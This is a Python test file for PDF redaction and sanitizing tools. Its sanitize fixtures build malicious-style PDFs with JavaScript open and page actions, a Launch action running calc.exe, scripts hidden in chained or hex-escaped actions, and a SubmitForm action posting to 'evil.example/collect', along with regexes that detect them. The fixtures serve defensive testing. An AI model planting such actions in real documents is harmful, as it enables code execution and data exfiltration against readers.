"""pdf-redact and pdf-sanitize on PDFs made here, read back with PyMuPDF: text, pixels and the object tree."""

from __future__ import annotations

import io
import re
from pathlib import Path
from typing import Any

import pymupdf
import pytest
from PIL import Image

from converters.base import ConversionError
from converters.catalogue import load_catalogue
from tests.converters import pdf_samples as pdfs
from tests.converters.runtool import params_error, run_tool

SECRET = "Zanzibar"
LINE = f"The code word is {SECRET} and nothing else."


def one_page(path: Path, *lines: str, rotation: int = 0) -> Path:
    """A Letter page with ``lines`` of text at y = 100, 130, ..., then an optional /Rotate."""
    doc = pymupdf.open()
    page = doc.new_page(width=612, height=792)
    for number, line in enumerate(lines):
        page.insert_text((72, 100 + 30 * number), line, fontsize=12)
    page.set_rotation(rotation)
    doc.save(path)
    doc.close()
    return path


def text_of(path: Path) -> str:
    with pymupdf.open(path) as doc:
        return "".join(page.get_text() for page in doc)


def pixel(path: Path, x: float, y: float, page: int = 0) -> tuple[int, ...]:
    """The rendered colour at (x, y) points of the page as shown, at 72 dpi."""
    with pymupdf.open(path) as doc:
        pix = doc[page].get_pixmap(dpi=72, alpha=False)
        return tuple(pix.pixel(int(x), int(y)))


def redact(source: Path, out: Path, **params: Any) -> tuple[Path, list[str], list[float]]:
    run = run_tool("pdf-redact", [source], out, params)
    [output] = run.outputs
    return output, run.notes, run.progress


# --------------------------------------------------------------------------- pdf-redact: text


def test_a_term_is_gone_from_the_text_and_blacked_out_while_the_rest_stays(tmp_path: Path) -> None:
    source = one_page(tmp_path / "in.pdf", LINE, "A second line stays.")
    output, notes, _ = redact(source, tmp_path / "out", terms=[SECRET])
    text = text_of(output)
    assert SECRET not in text and "code word is" in text and "A second line stays." in text
    with pymupdf.open(source) as doc:
        [box] = doc[0].search_for(SECRET)
    assert pixel(output, (box.x0 + box.x1) / 2, (box.y0 + box.y1) / 2) == (0, 0, 0)
    assert "redacted 1 area(s) on 1 page(s) (page 1: 1)" in notes[0]


def test_terms_match_in_any_case_unless_case_sensitive(tmp_path: Path) -> None:
    source = one_page(tmp_path / "in.pdf", LINE)
    output, _, _ = redact(source, tmp_path / "any", terms=[SECRET.upper()])
    assert SECRET not in text_of(output)
    output, notes, _ = redact(source, tmp_path / "exact", terms=[SECRET.upper()], caseSensitive=True)
    assert SECRET in text_of(output) and "nothing matched" in notes[0]


def test_a_phrase_split_over_two_lines_is_redacted_on_both(tmp_path: Path) -> None:
    source = one_page(tmp_path / "in.pdf", "Signed by John", "Smith, director.")
    output, notes, _ = redact(source, tmp_path / "out", terms=["John Smith"])
    text = text_of(output)
    assert "John" not in text and "Smith" not in text and "director" in text
    assert "(page 1: 2)" in notes[0]


def test_hidden_text_under_a_box_is_removed_too(tmp_path: Path) -> None:
    doc = pymupdf.open()
    page = doc.new_page()
    page.insert_text((72, 100), SECRET, fontsize=12, render_mode=3)  # invisible, like an OCR layer
    doc.save(tmp_path / "in.pdf")
    doc.close()
    output, _, _ = redact(tmp_path / "in.pdf", tmp_path / "out", terms=[SECRET])
    assert SECRET not in text_of(output)


def test_zero_matches_is_a_note_and_the_text_is_kept(tmp_path: Path) -> None:
    source = one_page(tmp_path / "in.pdf", LINE)
    output, notes, _ = redact(source, tmp_path / "out", terms=["Timbuktu"])
    assert SECRET in text_of(output)
    assert notes == ["in.pdf: nothing matched; no area was redacted."]


def test_only_the_pages_named_are_searched(tmp_path: Path) -> None:
    source = pdfs.text_pdf(tmp_path / "in.pdf", 3)
    output, _, progress = redact(source, tmp_path / "out", terms=["FKMARK"], pages="2-3")
    with pymupdf.open(output) as doc:
        assert [pdfs.marker(1) in page.get_text() for page in doc] == [True, False, False]
    assert progress == sorted(progress) and progress[-1] == 1.0 and len(progress) >= 3


def test_a_term_in_the_title_and_bookmarks_is_replaced(tmp_path: Path) -> None:
    source = one_page(tmp_path / "in.pdf", LINE)
    with pymupdf.open(source) as doc:
        doc.set_metadata({"title": f"Notes on {SECRET}", "author": "Someone"})
        doc.set_toc([[1, f"{SECRET} chapter", 1]])
        doc.save(tmp_path / "titled.pdf")
    output, notes, _ = redact(tmp_path / "titled.pdf", tmp_path / "out", terms=[SECRET])
    with pymupdf.open(output) as doc:
        assert doc.metadata["title"] == "Notes on [redacted]" and doc.metadata["author"] == "Someone"
        assert doc.get_toc() == [[1, "[redacted] chapter", 1]]
    assert "2 metadata field(s) or bookmark title(s)" in notes[0]


# --------------------------------------------------------------------------- pdf-redact: patterns and presets


def test_patterns_redact_what_they_match(tmp_path: Path) -> None:
    source = one_page(tmp_path / "in.pdf", "Order AB-1234-XY shipped.", "Order 99 pending.")
    output, _, _ = redact(source, tmp_path / "out", patterns=[r"[A-Z]{2}-\d{4}-[A-Z]{2}"])
    text = text_of(output)
    assert "AB-1234-XY" not in text and "Order 99 pending." in text


@pytest.mark.parametrize(("pattern", "why"), [
    ("(unclosed", "not a valid regular expression"),
    ("(a+)+$", "nests a repeat inside a repeat"),
    ("(x*y?)*z", "nests a repeat inside a repeat"),
    ("a?", "matches empty text"),
    ("x" * 201, "longer than 200"),
])
def test_bad_patterns_are_refused_with_the_pattern_named(pattern: str, why: str) -> None:
    message = params_error("pdf-redact", {"patterns": ["fine", pattern]})
    assert "patterns" in message and why in message and pattern[:30] in message


def test_params_without_anything_to_redact_are_refused() -> None:
    assert "at least one of terms, patterns, presets or areas" in params_error("pdf-redact", {})


def test_presets_find_emails_phones_ibans_and_card_numbers_that_pass_their_checksums(tmp_path: Path) -> None:
    source = one_page(
        tmp_path / "in.pdf",
        "Mail jane.doe@example.org now.",
        "Call +44 20 7946 0958 today.",
        "Pay to GB82 WEST 1234 5698 7654 32 please.",
        "Not an IBAN: GB00 WEST 1234 5698 7654 32 end.",
        "Card 4111 1111 1111 1111 expires.",
        "Not a card: 4111 1111 1111 1112 end.",
        "Dated 2024-01-31 here.",
    )
    output, _, _ = redact(source, tmp_path / "out", presets=["email", "phone", "iban", "creditCard"])
    text = text_of(output)
    for gone in ("jane.doe@example.org", "7946", "GB82", "4111 1111 1111 1111"):
        assert gone not in text, gone
    for kept in ("GB00 WEST", "4111 1111 1111 1112", "2024-01-31", "Mail", "Call", "Pay to"):
        assert kept in text, kept


def test_a_single_term_string_from_a_form_field_is_a_list_of_one() -> None:
    tool = load_catalogue().get("pdf-redact")
    assert tool is not None
    assert tool.params.model_validate({"terms": SECRET}).terms == [SECRET]  # type: ignore[attr-defined]


# --------------------------------------------------------------------------- pdf-redact: areas


def image_page(path: Path) -> Path:
    """A page whose top half is a solid red image (x 100-500, y 100-400) with a blue vector square on it."""
    doc = pymupdf.open()
    page = doc.new_page(width=600, height=800)
    buffer = io.BytesIO()
    Image.new("RGB", (400, 300), (255, 0, 0)).save(buffer, "PNG")
    page.insert_image(pymupdf.Rect(100, 100, 500, 400), stream=buffer.getvalue())
    page.draw_rect(pymupdf.Rect(120, 120, 180, 180), color=None, fill=(0, 0, 1))
    page.insert_text((100, 500), LINE, fontsize=12)
    doc.save(path)
    doc.close()
    return path


def test_an_area_blanks_the_image_pixels_and_removes_the_drawing_under_it(tmp_path: Path) -> None:
    source = image_page(tmp_path / "in.pdf")
    output, notes, _ = redact(source, tmp_path / "out", areas=[{"page": 1, "x0": 110, "y0": 110, "x1": 300,
                                                                 "y1": 250}], fillColor="#00ff00")
    assert pixel(output, 150, 150) == (0, 255, 0)  # the box
    assert pixel(output, 400, 350) == (255, 0, 0)  # the image outside it
    with pymupdf.open(output) as doc:
        [image] = doc[0].get_images(full=True)
        pix = pymupdf.Pixmap(doc, image[0])
        # the image's own samples under the box (image pixel = page point - 100) are no longer red
        assert tuple(pix.pixel(100, 80)) != (255, 0, 0) and tuple(pix.pixel(350, 250)) == (255, 0, 0)
        blue = [d for d in doc[0].get_drawings() if d.get("fill") == (0.0, 0.0, 1.0)]
        assert blue == []
    assert SECRET in text_of(output)
    assert "(page 1: 1)" in notes[0]


def test_areas_are_measured_on_the_page_as_shown_even_when_it_is_rotated(tmp_path: Path) -> None:
    source = one_page(tmp_path / "in.pdf", SECRET, rotation=90)
    with pymupdf.open(source) as doc:
        page = doc[0]
        [box] = page.search_for(SECRET)
        shown = box * page.rotation_matrix  # where a reader sees the word
    area = {"page": 1, "x0": shown.x0 - 2, "y0": shown.y0 - 2, "x1": shown.x1 + 2, "y1": shown.y1 + 2}
    output, _, _ = redact(source, tmp_path / "out", areas=[area])
    assert SECRET not in text_of(output)
    assert pixel(output, (shown.x0 + shown.x1) / 2, (shown.y0 + shown.y1) / 2) == (0, 0, 0)


def test_areas_as_text_from_a_form_field() -> None:
    tool = load_catalogue().get("pdf-redact")
    assert tool is not None
    model: Any = tool.params.model_validate({"areas": "1: 72 72 300 100; 2: 0 0 50.5 50"})
    assert [(a.page, a.x1) for a in model.areas] == [(1, 300.0), (2, 50.5)]
    assert "x1 > x0" in params_error("pdf-redact", {"areas": "1: 300 72 72 100"})


def test_an_area_on_a_missing_page_is_invalid_pages(tmp_path: Path) -> None:
    source = one_page(tmp_path / "in.pdf", LINE)
    with pytest.raises(ConversionError) as caught:
        redact(source, tmp_path / "out", areas=[{"page": 4, "x0": 0, "y0": 0, "x1": 10, "y1": 10}])
    assert caught.value.code == "invalid_pages" and "page 4" in caught.value.message


def test_redacting_an_encrypted_pdf_is_password_protected(tmp_path: Path) -> None:
    with pytest.raises(ConversionError) as caught:
        redact(pdfs.encrypted_pdf(tmp_path / "locked.pdf"), tmp_path / "out", terms=["x"])
    assert caught.value.code == "password_protected"


# --------------------------------------------------------------------------- pdf-sanitize


def risky_pdf(path: Path) -> Path:
    """A PDF with a document script, a script open action, a page event action, a launch link, a web link,
    an attached file, a file attachment annotation, document information and XMP."""
    doc = pymupdf.open()
    page = doc.new_page()
    page.insert_text((72, 100), LINE, fontsize=12)
    page.insert_link({"kind": pymupdf.LINK_URI, "from": pymupdf.Rect(72, 200, 200, 220), "uri": "https://example.org"})
    page.insert_link({"kind": pymupdf.LINK_LAUNCH, "from": pymupdf.Rect(72, 240, 200, 260), "file": "calc.exe"})
    page.add_file_annot(pymupdf.Point(300, 300), b"attached bytes", "note.txt")
    doc.embfile_add("payload.bin", b"\x00payload")
    root = doc.pdf_catalog()
    script = doc.get_new_xref()
    doc.update_object(script, "<< /S /JavaScript /JS (app.alert\\('hi'\\)) >>")
    names = doc.get_new_xref()
    doc.update_object(names, f"<< /Names [(hello) {script} 0 R] >>")
    doc.xref_set_key(root, "Names/JavaScript", f"{names} 0 R")
    doc.xref_set_key(root, "OpenAction", "<< /S /JavaScript /JS (app.alert\\('open'\\)) >>")
    doc.xref_set_key(page.xref, "AA", "<< /O << /S /JavaScript /JS (app.alert\\('page'\\)) >> >>")
    doc.set_metadata({"title": "Secret plans", "author": "Mallory"})
    doc.set_xml_metadata("<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF "
                         "xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'/></x:xmpmeta>")
    doc.save(path)
    doc.close()
    return path


# What each kind looks like in an object's source; a key whose value is null is an absent key.
LIVE = {
    "/JavaScript": re.compile(r"/S\s*/JavaScript|/JavaScript\s*(<<|\d+ \d+ R)"),
    "/Launch": re.compile(r"/S\s*/Launch"),
    "/JS": re.compile(r"/JS\s*([(<]|\d+ \d+ R)"),
    "/AA": re.compile(r"/AA\s*(<<|\d+ \d+ R)"),
}


def action_types(doc: pymupdf.Document) -> set[str]:
    """Every kind of script or action left anywhere in the file, inline or not."""
    found = set()
    for xref in range(1, doc.xref_length()):
        source = doc.xref_object(xref, compressed=True)
        found |= {kind for kind, pattern in LIVE.items() if pattern.search(source)}
    return found


def sanitize(source: Path, out: Path, **params: Any) -> tuple[Path, list[str]]:
    run = run_tool("pdf-sanitize", [source], out, params)
    [output] = run.outputs
    return output, run.notes


def test_the_sample_carries_everything_sanitize_removes(tmp_path: Path) -> None:
    with pymupdf.open(risky_pdf(tmp_path / "in.pdf")) as doc:
        assert action_types(doc) == {"/JavaScript", "/Launch", "/JS", "/AA"}
        assert doc.embfile_count() == 1 and len(doc[0].get_links()) == 2
        assert doc.metadata["title"] and doc.get_xml_metadata()


def test_sanitize_by_default_removes_scripts_actions_files_and_metadata_but_keeps_web_links(tmp_path: Path) -> None:
    output, notes = sanitize(risky_pdf(tmp_path / "in.pdf"), tmp_path / "out")
    with pymupdf.open(output) as doc:
        assert action_types(doc) == set()
        root = doc.pdf_catalog()
        assert doc.xref_get_key(root, "Names/JavaScript")[0] == "null"
        assert doc.xref_get_key(root, "OpenAction")[0] == "null"
        assert doc.embfile_count() == 0
        assert [a.type[1] for a in doc[0].annots()] == []
        assert [link.get("uri") for link in doc[0].get_links()] == ["https://example.org"]
        assert doc.metadata["title"] == "" and doc.metadata["author"] == "" and doc.get_xml_metadata() == ""
        assert SECRET in doc[0].get_text()
    assert "JavaScript" in notes[0] and "Launch action" in notes[0] and "embedded file" in notes[0]


def test_sanitize_removes_links_when_asked(tmp_path: Path) -> None:
    output, _ = sanitize(risky_pdf(tmp_path / "in.pdf"), tmp_path / "out", links=True)
    with pymupdf.open(output) as doc:
        assert doc[0].get_links() == []


def test_each_kind_can_be_kept(tmp_path: Path) -> None:
    output, _ = sanitize(risky_pdf(tmp_path / "in.pdf"), tmp_path / "out", javascript=False, openActions=False,
                         embeddedFiles=False, metadata=False, xmpMetadata=False)
    with pymupdf.open(output) as doc:
        assert "/JavaScript" in action_types(doc) and "/Launch" not in action_types(doc)
        assert doc.xref_get_key(doc.pdf_catalog(), "OpenAction")[0] == "dict"
        assert doc.embfile_count() == 1
        assert doc.metadata["title"] == "Secret plans" and doc.get_xml_metadata()


def test_only_launch_actions_can_be_removed(tmp_path: Path) -> None:
    output, _ = sanitize(risky_pdf(tmp_path / "in.pdf"), tmp_path / "out", javascript=False, openActions=False,
                         embeddedFiles=False, metadata=False, xmpMetadata=False, launchActions=True)
    with pymupdf.open(output) as doc:
        assert action_types(doc) == {"/JavaScript", "/JS", "/AA"}


def hidden_actions_pdf(path: Path) -> Path:
    """Actions where a walk of the usual keys misses them: in a link's /A /Next (a dictionary, and an
    array of them), a rendition's script, a hex-escaped name, a form submission, an embedded go-to,
    a launch in a /Next, and the catalog's associated files."""
    doc = pymupdf.open()
    page = doc.new_page()
    page.insert_text((72, 100), LINE, fontsize=12)
    actions = [
        "<< /S /URI /URI (https://example.org/a) /Next << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
        "<< /S /URI /URI (https://example.org/b) /Next [ << /S /Launch /F (calc.exe) >>"
        " << /S /JavaScript /JS (app.alert\\(2\\)) >> ] >>",
        "<< /S /Rendition /OP 0 /JS (app.alert\\(3\\)) >>",
        "<< /S /Java#53cript /JS (app.alert\\(4\\)) >>",
        "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>",
        "<< /S /GoToE /T << /R /C /N (payload.pdf) >> >>",
    ]
    annots = []
    for n, action in enumerate(actions):
        xref = doc.get_new_xref()
        doc.update_object(xref, f"<< /Type /Annot /Subtype /Link /Rect [72 {200 + 30 * n} 200 {220 + 30 * n}]"
                                f" /Border [0 0 0] /A {action} >>")
        annots.append(f"{xref} 0 R")
    doc.xref_set_key(page.xref, "Annots", f"[{' '.join(annots)}]")
    spec = doc.get_new_xref()
    doc.update_object(spec, "<< /Type /Filespec /F (data.csv) /AFRelationship /Data >>")
    doc.xref_set_key(doc.pdf_catalog(), "AF", f"[{spec} 0 R]")
    doc.save(path)
    doc.close()
    return path


def everything_in(doc: pymupdf.Document) -> str:
    return "\n".join(doc.xref_object(x, compressed=True) for x in range(1, doc.xref_length()))


def test_actions_hidden_in_chains_arrays_renditions_and_escaped_names_are_removed(tmp_path: Path) -> None:
    source = hidden_actions_pdf(tmp_path / "in.pdf")
    with pymupdf.open(source) as doc:
        before = everything_in(doc)
        assert action_types(doc) >= {"/JavaScript", "/Launch", "/JS"}
        assert all(word in before for word in ("/SubmitForm", "/GoToE", "/AF", "/Rendition"))
    output, notes = sanitize(source, tmp_path / "out")
    with pymupdf.open(output) as doc:
        after = everything_in(doc)
        assert action_types(doc) == set(), after
        for word in ("/SubmitForm", "/GoToE", "/AF", "calc.exe", "app.alert", "evil.example"):
            assert word not in after, (word, after)
        # the web links stay: only what they chained is gone
        assert sorted(link.get("uri") for link in doc[0].get_links() if link.get("uri")) == [
            "https://example.org/a", "https://example.org/b"]
        assert SECRET in doc[0].get_text()
    assert "SubmitForm action" in notes[0] and "GoToE action" in notes[0] and "associated files" in notes[0]


def test_a_clean_pdf_is_said_to_have_nothing_to_remove(tmp_path: Path) -> None:
    source = one_page(tmp_path / "in.pdf", LINE)
    with pymupdf.open(source) as doc:
        doc.set_metadata({})
        doc.save(tmp_path / "clean.pdf")
    output, notes = sanitize(tmp_path / "clean.pdf", tmp_path / "out")
    assert notes == ["clean.pdf: nothing to remove was found."] and SECRET in text_of(output)


def test_sanitizing_an_encrypted_pdf_is_password_protected(tmp_path: Path) -> None:
    with pytest.raises(ConversionError) as caught:
        sanitize(pdfs.encrypted_pdf(tmp_path / "locked.pdf"), tmp_path / "out")
    assert caught.value.code == "password_protected"
